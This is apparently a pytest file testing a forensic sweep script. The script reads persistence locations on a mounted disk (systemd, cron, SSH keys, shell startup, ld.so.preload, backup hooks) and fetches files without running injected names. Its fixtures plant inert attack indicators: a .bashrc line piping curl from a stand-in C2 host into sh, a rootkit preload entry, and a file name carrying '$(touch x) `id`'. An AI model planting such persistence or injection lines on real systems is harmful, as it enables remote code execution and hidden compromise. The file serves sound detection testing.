"""The inspection's script is plain sh, asks only what it was told to, and holds nothing a file name could break."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest

from orchestrator.workers.script import ON_DISK, SAMPLE_BYTES_MAX, Sweep

TOKEN = "--0123"


def run(sweep: Sweep, wanted: bytes = b"") -> dict[str, bytes]:
    """The sections the script prints, run by dash as on the hosts."""
    done = subprocess.run(["dash", "-c", sweep.script(TOKEN)], input=wanted, capture_output=True, check=True)
    parts = (part.partition(b"\n") for part in done.stdout.split(f"{TOKEN} ".encode())[1:])
    return {name.decode(): text for name, _, text in parts}


@pytest.fixture
def disk(tmp_path: Path) -> Path:
    """A mounted disk with something in every place where things start."""
    root = tmp_path / "a disk"
    units = root / "etc" / "systemd" / "system"
    (units / "multi-user.target.wants").mkdir(parents=True)
    (units / "updater.service").write_text("[Service]\nExecStart=/usr/bin/updater\n")
    (units / "updater.timer").write_text("[Timer]\nOnCalendar=2027-01-01\n")
    (units / "multi-user.target.wants" / "updater.service").symlink_to("../updater.service")
    places = {
        "etc/passwd": "root:x:0:0\n",
        "etc/group": "root:x:0:\n",
        "etc/cron.d/job": "# comment\n0 3 * * * root /x\n",
        "var/spool/cron/atjobs/a0001": "payload\n",
        "home/per son/.ssh/authorized_keys": "ssh-ed25519 AAAA\n",
        "home/per son/.bashrc": "curl http://c2.example.org | sh\n",
        "etc/ld.so.preload": "/lib/rootkit.so\n",
        "etc/modules-load.d/x.conf": "rootkit\n",
        "etc/hosts": "192.0.2.7 update.example.org\n",
        "etc/os-release": 'PRETTY_NAME="Debian 12"\n',
        "etc/borgmatic/config.yaml": "pass: secret\nbefore_backup:\n  - /opt/wipe.sh\nkeep_daily: 7\n- password: x\n",
        "etc/bacula/bacula-fd.conf": 'Director {\n  Password = "secret"\n}\n  ClientRunBeforeJob = "/opt/b"\n',
        "etc/rsnapshot.conf": "#cmd_preexec\t/no\ncmd_preexec\t/opt/r\n",
        "var/lib/samba/sysvol/clinic/scripts/night.cmd": "x",
        "var/lib/samba/sysvol/clinic/Policies/{1}/GPT.INI": "x",
        "var/lib/dpkg/status": "Package: bash\nVersion: 5.2\n\nPackage: gone\nStatus: ok\n\nPackage: z\nVersion: 1\n",
    }
    for name, text in places.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)
    return root


def test_every_place_where_something_starts_is_read_with_its_path(disk: Path) -> None:
    found = run(Sweep(root=str(disk), paths=("etc",), lists=ON_DISK))
    assert not [name for name in found if name.startswith("failed")]
    wants = b"etc/systemd/system/multi-user.target.wants/updater.service"
    assert found["services"].splitlines() == [
        b"etc/systemd/system/updater.service:ExecStart=/usr/bin/updater",
        wants,
    ]
    assert found["timers"] == b"etc/systemd/system/updater.timer:OnCalendar=2027-01-01\n"
    assert found["cron"] == b"etc/cron.d/job:0 3 * * * root /x\n"
    assert found["at_jobs"] == b"var/spool/cron/atjobs/a0001\n"
    assert found["authorized_keys"] == b"home/per son/.ssh/authorized_keys:ssh-ed25519 AAAA\n"
    assert b"home/per son/.bashrc:curl http://c2.example.org | sh\n" in found["shell_startup"]
    assert b"etc/ld.so.preload:/lib/rootkit.so\n" in found["shell_startup"]
    assert found["backup_jobs"].splitlines() == [
        b"etc/borgmatic/config.yaml:before_backup:",
        b"etc/borgmatic/config.yaml:  - /opt/wipe.sh",
        b"etc/borgmatic/config.yaml:keep_daily: 7",
        b'etc/bacula/bacula-fd.conf:  ClientRunBeforeJob = "/opt/b"',
        b"etc/rsnapshot.conf:cmd_preexec\t/opt/r",
    ], "commands and rules, and no password"
    assert found["directory"] == b"var/lib/samba/sysvol/clinic/scripts/night.cmd\n"
    assert found["boot_modules"] == b"etc/modules-load.d/x.conf:rootkit\n"
    assert found["resolver"] == b"etc/hosts:192.0.2.7 update.example.org\n"
    assert found["patch_level"] == b'PRETTY_NAME="Debian 12"\nbash 5.2\nz 1\n'
    assert found["accounts"] == b"root:x:0:0\n"
    assert found["groups"] == b"root:x:0:\n"


def test_a_bare_disk_has_empty_lists_and_only_what_must_exist_fails(tmp_path: Path) -> None:
    found = run(Sweep(root=str(tmp_path), paths=(".",), lists=ON_DISK))
    assert {name for name in found if name.startswith("failed")} == {
        *("failed accounts", "failed groups", "failed patch_level")
    }


def test_a_directory_whose_entries_cannot_be_read_is_not_called_examined(disk: Path) -> None:
    database = disk / "var/lib/samba/private/sam.ldb"
    database.parent.mkdir()
    database.write_bytes(b"no database")
    found = run(Sweep(root=str(disk), paths=("etc",), lists=ON_DISK))
    assert {name for name in found if name.startswith("failed")} == {"failed directory"}


def test_a_missing_command_is_said_and_the_rest_goes_on(disk: Path) -> None:
    found = run(
        Sweep(root=str(disk), paths=("etc",), lists={"listening": "no-such-tool", "accounts": "cat etc/passwd"})
    )
    assert "failed listening" in found
    assert found["accounts"] == b"root:x:0:0\n"
    assert "end" in found


def test_asked_for_files_are_sent_as_they_are_and_links_devices_and_what_is_gone_are_not(disk: Path) -> None:
    (disk / "etc" / "link").symlink_to("passwd")
    (disk / "etc" / "$(touch x) `id`").write_bytes(b"\0\xff")
    wanted = b"etc/link\netc/gone\netc\n/dev/zero\netc/$(touch x) `id`\n"
    found = run(Sweep(root=str(disk), paths=("etc",), lists={}), wanted)
    assert found["sample"] == b"\0\xff"
    assert not (disk / "x").exists()


def test_a_large_file_is_sent_to_its_bound_alone(disk: Path) -> None:
    (disk / "etc" / "large").write_bytes(b"x" * (SAMPLE_BYTES_MAX + 10))
    found = run(Sweep(root=str(disk), paths=("etc",), lists={}), b"etc/large\n")
    assert len(found["sample"]) == SAMPLE_BYTES_MAX


def test_nothing_on_the_host_is_written(disk: Path) -> None:
    before = sorted((path, path.lstat().st_mtime_ns) for path in disk.rglob("*"))
    run(Sweep(root=str(disk), paths=(".",), lists=ON_DISK), b"etc/passwd\n")
    assert sorted((path, path.lstat().st_mtime_ns) for path in disk.rglob("*")) == before
